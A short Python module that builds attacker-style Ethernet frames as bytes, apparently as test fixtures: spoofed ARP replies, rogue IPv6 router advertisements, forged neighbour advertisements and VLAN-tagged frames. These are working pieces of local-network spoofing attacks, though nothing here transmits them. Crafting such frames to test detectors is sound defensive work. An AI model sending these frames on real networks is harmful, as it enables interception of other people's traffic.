"""Ethernet frames as an attacker writes them."""

from __future__ import annotations

import ipaddress
import socket
import struct

BROADCAST = "ff:ff:ff:ff:ff:ff"
_ARP, _IP, _IP6, _VLAN = 0x0806, 0x0800, 0x86DD, 0x8100


def _mac(text: str) -> bytes:
    return bytes.fromhex(text.replace(":", ""))


def _checksum(data: bytes) -> int:
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ethernet(source: str, target: str, kind: int, payload: bytes) -> bytes:
    """A frame."""
    return _mac(target) + _mac(source) + struct.pack("!H", kind) + payload


def arp_reply(source: str, target: str, address: str, *, claimed: str | None = None) -> bytes:
    """ "I have `address`"; `claimed` is the MAC inside, where it is another."""
    body = struct.pack("!HHBBH", 1, _IP, 6, 4, 2) + _mac(claimed or source) + socket.inet_aton(address)
    return ethernet(source, target, _ARP, body + _mac(target) + socket.inet_aton("0.0.0.0"))


def udp4(source: str, target: str, ips: tuple[str, str], ports: tuple[int, int], data: bytes) -> bytes:
    """A datagram."""
    udp = struct.pack("!HHHH", *ports, 8 + len(data), 0) + data
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0)
    head += socket.inet_aton(ips[0]) + socket.inet_aton(ips[1])
    head = head[:10] + struct.pack("!H", _checksum(head)) + head[12:]
    return ethernet(source, target, _IP, head + udp)


def icmp6(source: str, target: str, ips: tuple[str, str], kind: int, body: bytes) -> bytes:
    """An ICMPv6 message (134 router advertisement, 136 neighbour advertisement, 128 echo)."""
    first, second = (ipaddress.IPv6Address(ip).packed for ip in ips)
    message = struct.pack("!BBH", kind, 0, 0) + body
    pseudo = first + second + struct.pack("!II", len(message), 58)
    message = message[:2] + struct.pack("!H", _checksum(pseudo + message)) + message[4:]
    head = struct.pack("!IHBB", 6 << 28, len(message), 58, 255)
    return ethernet(source, target, _IP6, head + first + second + message)


def router_advertisement(source: str, ip: str) -> bytes:
    """ "Send everything to me"."""
    return icmp6(source, "33:33:00:00:00:01", (ip, "ff02::1"), 134, struct.pack("!BBHII", 64, 0, 1800, 0, 0))


def neighbour_advertisement(source: str, ip: str, of: str, target: str) -> bytes:
    """ "I am `of`"."""
    body = struct.pack("!I", 0x20000000) + ipaddress.IPv6Address(of).packed + b"\x02\x01" + _mac(source)
    return icmp6(source, target, (ip, "ff02::1"), 136, body)


def tagged(source: str, target: str) -> bytes:
    """A frame of a VLAN."""
    return ethernet(source, target, _VLAN, struct.pack("!HH", 5, _IP) + b"evil" * 16)
